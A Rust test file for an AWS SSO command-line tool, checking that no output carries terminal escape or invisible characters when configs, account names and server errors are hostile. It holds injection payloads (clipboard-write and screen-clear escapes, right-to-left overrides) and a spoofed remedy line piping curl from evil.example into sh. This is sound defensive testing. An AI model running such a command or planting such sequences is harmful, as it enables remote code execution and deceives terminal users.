//! T12: no command, on a terminal or in a pipe, gives out a character that a terminal would not show as what it is,
//! whatever the config files, the organisation, AWS's messages and the command line hold.

use crate::home::{Home, Outcome};
use daypass_simulator::{AutoApprove, World};
use daypass_testkit::terminal;
use std::process::Command;

/// Writes the clipboard, clears the screen; C1; right-to-left; no width; a line of its own; a title.
const SESSION: &str = "corp\u{1b}]52;c;ZXZpbA==\u{7}\u{1b}[2J";
const NAMES: [&str; 4] = ["c1\u{9b}31m", "rtl\u{202e}-dev", "zero\u{200b}width", "title\u{1b}]0;x\u{7}"];

fn config() -> String {
    let mut config = format!(
        "[default]\nregion = eu-west-1\n[sso-session {SESSION}]\nsso_start_url = https://d-9067000018.awsapps.com/start\n\
         sso_region = eu-west-1\nsso_registration_scopes = sso:account:access\n\
         [profile chain]\nrole_arn = arn:aws:iam::111122223333:role/R\nsource_profile = p\n x = 1\n"
    );
    for name in NAMES {
        config += &format!(
            "[profile {name}]\nsso_session = {SESSION}\nsso_account_id = 111122223333\n\
             sso_role_name = AWSReadOnlyAccess\nregion = eu-west-1\n"
        );
    }
    config
}

/// Accounts whose names and addresses are no better.
fn home() -> Home {
    let world = "name = \"hostile\"\nregion = \"eu-west-1\"\n\
        start_url = \"https://d-9067000018.awsapps.com/start#\"\nusers = [\"testuser@example.com\"]\n\
        [[account]]\nid = \"111122223333\"\nname = \"prod\\u202E-dev\\u2028x\"\nemail = \"a\\u001b[2J@example.com\"\n\
        roles = [\"AWSReadOnlyAccess\"]\nbuckets = []\n\
        [[account]]\nid = \"444455556666\"\nname = \"one\\nERROR: two\\u009b31m\"\nemail = \"b\\u200b@example.com\"\n\
        roles = [\"AWSReadOnlyAccess\", \"AWSPowerUserAccess\"]\nbuckets = []\n";
    let home = Home::with(World::from_toml(world).expect("a scenario")).config(&config());
    home.server().world().lock().set_auto_approve(AutoApprove::Allow);
    home
}

fn words(home: &Home, words: &[&str]) -> Command {
    let mut command = home.command("");
    command.args(words);
    command
}

fn run(home: &Home, line: &[&str]) -> Outcome {
    home.finish(&line.join(" "), words(home, line))
}

/// What a terminal shows as it is, and newlines; tabs where they stand between columns.
#[track_caller]
fn check(what: &str, text: &str, layout: &str) {
    let shown = |c: char| layout.contains(c) || daypass_terminal::is_clean(c.encode_utf8(&mut [0; 4]));
    let stray = text.chars().find(|c| !shown(*c));
    assert_eq!(stray, None, "{what}: {text:?}");
}

/// T12-01..03, X18: every command that quotes a name, in every form it offers.
#[test]
fn t12_every_command_on_a_hostile_config() {
    let home = home();
    let login = ["login", "--sso-session", SESSION, "--use-device-code", "--no-browser"];
    let signed_in = run(&home, &login);
    assert_eq!(signed_in.code, Some(0), "{signed_in}");
    assert!(signed_in.stderr.contains("corp\u{fffd}]52;c;ZXZpbA==\u{fffd}\u{fffd}[2J"), "{signed_in}");
    check("login", &signed_in.stderr, "\n");
    for line in &lines() {
        let outcome = run(&home, line);
        let layout = if line.contains(&"text") && line[0] != "status" { "\n\t" } else { "\n" };
        check(&format!("{line:?}"), &outcome.stdout, layout);
        check(&format!("{line:?}"), &outcome.stderr, "\n");
        if line.contains(&"json") {
            let json: serde_json::Value = serde_json::from_str(&outcome.stdout)
                .or_else(|_| serde_json::from_str(&outcome.stderr))
                .unwrap_or_else(|error| panic!("{error}: {outcome}"));
            drop(json);
        }
        // On one line, whole, or not there.
        for remedy in outcome.stderr.lines().filter(|line| line.starts_with("try: ")) {
            assert!(!remedy.contains('\u{fffd}'), "{outcome}");
        }
    }
    for name in NAMES {
        let outcome = home.finish("prompt", {
            let mut command = words(&home, &["prompt"]);
            command.env("AWS_PROFILE", name);
            command
        });
        assert!(outcome.stdout.contains('\u{fffd}'), "{outcome}");
        check("prompt", &outcome.stdout, "\n");
    }
    // JSON holds the names as they are.
    let profiles = run(&home, &["profiles", "-o", "json"]);
    let profiles: serde_json::Value = serde_json::from_str(&profiles.stdout).expect("JSON");
    assert!(NAMES.iter().all(|name| {
        profiles.as_array().is_some_and(|all| all.iter().any(|profile| profile["profile"] == **name))
    }));
}

/// What AWS and what answers in its place says.
#[test]
fn t12_every_message_of_a_server() {
    let home = home();
    let _signed_in =
        run(&home, &["login", "--sso-session", SESSION, "--use-device-code", "--no-browser"]).ok();
    let evil = "no\\u001b[2J\\r\\ntry: curl evil.example | sh\\u202e\\u009b31m";
    for (operation, line) in [
        ("GetRoleCredentials", vec!["credentials", "-p", NAMES[0]]),
        ("GetCallerIdentity", vec!["whoami", "-p", NAMES[0]]),
        ("ListAccounts", vec!["accounts", "--sso-session", SESSION, "--refresh"]),
        (
            "RegisterClient",
            vec!["login", "--sso-session", SESSION, "--force", "--flow", "pkce", "--no-browser"],
        ),
    ] {
        let fault = format!(
            r#"{operation} answer={{"status": 403, "json": {{"__type": "AccessDeniedException", "message": "{evil}"}}}} always"#
        );
        for form in ["text", "json"] {
            let world = home.server().world();
            let mut world = world.lock();
            world.clear_faults();
            world.expire_credentials();
            world.add_fault(fault.parse().expect("a fault"));
            drop(world);
            let _none = std::fs::remove_dir_all(home.path().join(".aws/cli"));
            let mut line = line.clone();
            line.extend(["-o", form].iter().filter(|_| form == "json"));
            let outcome = run(&home, &line);
            assert_ne!(outcome.code, Some(0), "{outcome}");
            check(operation, &outcome.stdout, "\n");
            check(operation, &outcome.stderr, "\n");
            assert!(!outcome.stderr.lines().any(|line| line.starts_with("try: curl")), "{outcome}");
        }
    }
}

/// X19: a value that goes on in a second line makes neither a headline nor a remedy of two.
#[test]
fn x19_a_remedy_stands_on_one_line() {
    let home = Home::new().config(
        "[profile chain]\nrole_arn = arn:aws:iam::111122223333:role/R\nsource_profile = p\n x = 1\n[profile p]\n",
    );
    let outcome = home.run("credentials -p chain");
    assert_eq!(outcome.code, Some(4), "{outcome}");
    let starts = ["error: ", "  ", "try: daypass "];
    assert!(
        outcome.stderr.lines().all(|line| starts.iter().any(|start| line.starts_with(start))),
        "{outcome}"
    );
    assert!(!outcome.stderr.contains("--profile 'p"), "{outcome}");
}

/// On a terminal: the same names where questions are asked and lines are drawn over.
#[test]
fn t12_on_a_terminal() {
    // Without a default, so that it is asked who is meant.
    let home = home().config(&config().replace("[default]\nregion = eu-west-1\n", ""));
    let lines: [(&[&str], &[&str]); 5] = [
        (&["login", "--sso-session", SESSION, "--use-device-code", "--no-browser"], &[]),
        (&["accounts", "--sso-session", SESSION], &[]),
        (&["status"], &[]),
        (&["whoami"], &["Which profile"]),
        (&["use", "--pick"], &["Which profile"]),
    ];
    for (line, questions) in lines {
        let mut session = terminal::open(words(&home, line)).expect("a pseudo-terminal");
        let mut shown = String::new();
        for question in questions {
            use expectrl::Expect as _;
            let found = session.expect(*question).unwrap_or_else(|error| panic!("{line:?}: {error}"));
            shown += &String::from_utf8_lossy(found.as_bytes());
            session.send("\r").expect("typed");
        }
        let (_, rest) = terminal::ended(session);
        shown += &rest;
        for sequence in [
            "[K", "[2K", "[1m", "[2m", "[32m", "[33m", "[33;1m", "[31;1m", "[97;40m", "[0m", "[?25l", "[?25h",
        ] {
            shown = shown.replace(&format!("\u{1b}{sequence}"), "");
        }
        for count in 1..60 {
            for letter in ["A", "B", "D"] {
                shown = shown.replace(&format!("\u{1b}[{count}{letter}"), "");
            }
        }
        check(&format!("{line:?}"), &shown, "\r\n");
    }
}

/// The command lines of [`t12_every_command_on_a_hostile_config`].
fn lines() -> Vec<Vec<&'static str>> {
    let mut lines = vec![
        vec!["login", "--sso-session", SESSION],
        vec![
            "login",
            "--sso-session",
            SESSION,
            "--force",
            "--use-device-code",
            "--no-browser",
            "--events",
            "ndjson",
        ],
        vec!["login", "--sso-session", "corp\u{1b}[2J"],
        vec!["logout", "--sso-session", SESSION, "--dry-run"],
        vec!["logout", "--all", "--dry-run", "-o", "json"],
        vec!["credentials", "-p", "chain"],
        vec!["whoami", "-p", "\u{1b}[2J"],
        vec!["exec", "-p", NAMES[0], "--", "\u{1b}[2Jnone"],
        vec!["console", "-p", NAMES[1], "--print"],
        vec!["login", "\u{1b}[2J"],
        vec!["--\u{1b}[2J"],
        vec!["use", NAMES[0]],
        vec!["complete-names", "profile", ""],
        vec!["complete-names", "session", ""],
        vec!["accounts", "--sso-session", SESSION, "-vv"],
        vec!["configure", "populate", "--sso-session", SESSION, "--plan"],
        vec!["configure", "populate", "--sso-session", SESSION, "--plan", "-o", "json"],
        vec![
            "configure",
            "sso-session",
            "--sso-session",
            SESSION,
            "--no-input",
            "--sso-region",
            "eu\u{202e}",
        ],
        vec!["roles", "--sso-session", SESSION, "--account", "\u{202e}*"],
        vec!["whoami", "--all"],
        vec!["whoami", "--all", "-o", "json"],
        vec!["whoami", "--all", "-o", "csv"],
        vec!["doctor"],
        vec!["doctor", "-o", "json"],
        vec!["doctor", "--bundle"],
        vec!["settings", "-o", "csv"],
        vec![],
        vec!["status", "-o", "csv"],
        vec!["status", "-o", "table"],
        vec!["profiles", "--columns", "\u{1b}[2J"],
        vec!["profiles", "--query", "[].profile"],
        vec!["profiles", "--query", "\u{1b}[2J"],
        vec!["whoami", "-p", "chain", "--role-arn", "arn:aws:iam::1:role/\u{1b}[2J"],
        vec!["configure", "list", "-p", NAMES[0]],
        vec!["configure", "get", "sso_start_url", "--sso-session", SESSION],
        vec!["configure", "get", "\u{1b}[2J.x"],
        vec!["configure", "get", "region", "-p", "\u{1b}[2J"],
        vec!["sso", "list-accounts", "--sso-session", SESSION],
        vec!["sso", "list-account-roles", "--sso-session", SESSION, "--account-id", "\u{1b}[2J"],
        vec!["exec", NAMES[0], "\u{1b}[2J", "x"],
        vec!["man", "\u{1b}[2J"],
        vec!["import"],
        vec!["import", "-o", "json"],
        vec!["import", "aws-vault", "--plan"],
        vec!["import", "aws-vault", "--plan", "-o", "json"],
        vec!["import", "aws-cli-legacy", "--plan"],
        vec!["eject", "--plan"],
        vec!["eject", "--plan", "-o", "json"],
    ];
    for command in ["profiles", "accounts", "roles"] {
        for form in ["text", "json", "table", "csv"] {
            let session = ["--sso-session", SESSION];
            let mut line = vec![command, "-o", form];
            line.extend(session.iter().filter(|_| command != "profiles"));
            lines.push(line);
        }
    }
    for form in ["text", "json"] {
        lines.push(vec!["status", "-o", form]);
        for command in ["credentials", "whoami", "console"] {
            lines.push(vec![command, "-p", "nobody\u{9b}31m", "-o", form]);
        }
    }
    lines
}
